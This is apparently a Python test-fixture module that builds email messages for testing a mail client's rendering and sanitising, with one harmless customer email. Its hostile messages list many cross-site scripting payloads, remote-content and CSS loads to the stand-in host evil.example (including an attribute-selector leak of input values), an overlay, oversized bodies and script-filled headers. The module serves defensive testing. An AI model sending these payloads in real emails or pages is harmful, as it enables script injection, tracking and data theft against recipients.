"""Mail that would run or reach something in whoever looks at it, and one that is nice to look at."""

import base64
from email.message import EmailMessage
from email.policy import SMTP

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
RUN = "globalThis.pwned = 1; document.title = 'pwned'; alert(1)"
AWAY = "https://evil.example"

_SCRIPTS = f"""<p>Dear customer</p><script>{RUN}</script><img src=x onerror="{RUN}">
<svg onload="{RUN}"><script>{RUN}</script></svg>
<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><a href="javascript:{RUN}">x</a><body onload="{RUN}">
<form action="{AWAY}"><input autofocus onfocus="{RUN}"></form><details open ontoggle="{RUN}">x</details>
<noscript><p title="</noscript><img src=x onerror={RUN}>">"""

_REMOTE = f"""<p>Pictures</p><img src="{AWAY}/1.png"><img src="//evil.example/2.png"><img srcset="{AWAY}/3 1x">
<link rel=stylesheet href="{AWAY}/4.css"><link rel=prefetch href="{AWAY}/5"><link rel=dns-prefetch href="{AWAY}">
<video src="{AWAY}/6" poster="{AWAY}/7"></video><object data="{AWAY}/8"></object><embed src="{AWAY}/9">
<table background="{AWAY}/10"><tr><td background="{AWAY}/11">x</td></tr></table><input type=image src="{AWAY}/12">
<meta http-equiv=refresh content="0; url={AWAY}/13"><base href="{AWAY}/"><iframe src="{AWAY}/14"></iframe>"""

_STYLES = f"""<style>@import "{AWAY}/1.css"; @font-face {{ font-family: x; src: url({AWAY}/2) }}
body {{ background: url({AWAY}/3) }}
input[value^=a] {{ background: url({AWAY}/a) }}</style><p style="background: url({AWAY}/4)">a</p>
<p style="background-color: \\75rl({AWAY}/5)">b</p><p style="list-style-image: image-set('{AWAY}/6' 1x)">c</p>
<div style="position: fixed; inset: 0; z-index: 9999; background: red">over everything</div>
<p style="behavior: url({AWAY}/7); -moz-binding: url({AWAY}/8); width: expression({RUN})">d</p>"""


def hostile_messages() -> list[bytes]:
    """Scripts, remote content, tricks of CSS, 5 MB of HTML, 1,000 attachments, and hostile names all over."""
    return [
        *(_html(text) for text in (_SCRIPTS, _REMOTE, _STYLES)),
        _html("<p>Long</p>" + "<p>Hello <b>world</b> and everybody in it</p>\n" * 115_000),
        _attachments(1_000),
        _names(),
    ]


def friendly_message() -> bytes:
    message = EmailMessage()
    message["From"] = "A Customer <customer@shop.example>"
    message["To"] = "help@shop.example"
    message["Subject"] = "The blue one does not fit"
    message["Date"] = "Thu, 26 Nov 2026 10:00:00 +0000"
    message.set_content("Good morning,\n\nthe blue one does not fit. Can I have the green one?\n\nThank you!\n")
    message.add_alternative(
        "<p>Good morning,</p><p>the <b style='color: #1f5fbf'>blue one</b> does not fit. "
        "Can I have the <b style='color: #1b6e3c'>green one</b>?</p><p>Thank you!</p><img src='cid:dot' alt='a dot'>",
        subtype="html",
    )
    message.add_attachment(PNG, maintype="image", subtype="png", cid="<dot>", filename="photo.png")
    return message.as_bytes(policy=SMTP)


def _html(text: str) -> bytes:
    message = EmailMessage()
    message["Subject"] = "html"
    message.set_content(text, subtype="html", cte="quoted-printable")
    return message.as_bytes(policy=SMTP)


def _attachments(count: int) -> bytes:
    part = (
        '--x\r\nContent-Type: text/html; name="<img src=x onerror=alert(1)>.html"\r\n'
        f"Content-Disposition: attachment\r\n\r\n<script>{RUN}</script>\r\n"
    )
    return b"Subject: many\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n" + part.encode() * count + b"--x--\r\n"


def _names() -> bytes:
    script = f"<script>{RUN}</script>"
    return (
        f'Subject: {script}\r\nFrom: "{script}" <a@b.example>\r\nTo: {script}\r\n'
        f"X-{script.replace(' ', '')}: {script}\r\n"
        f"Content-Type: text/plain\r\n\r\n{script}\r\n"
    ).encode()
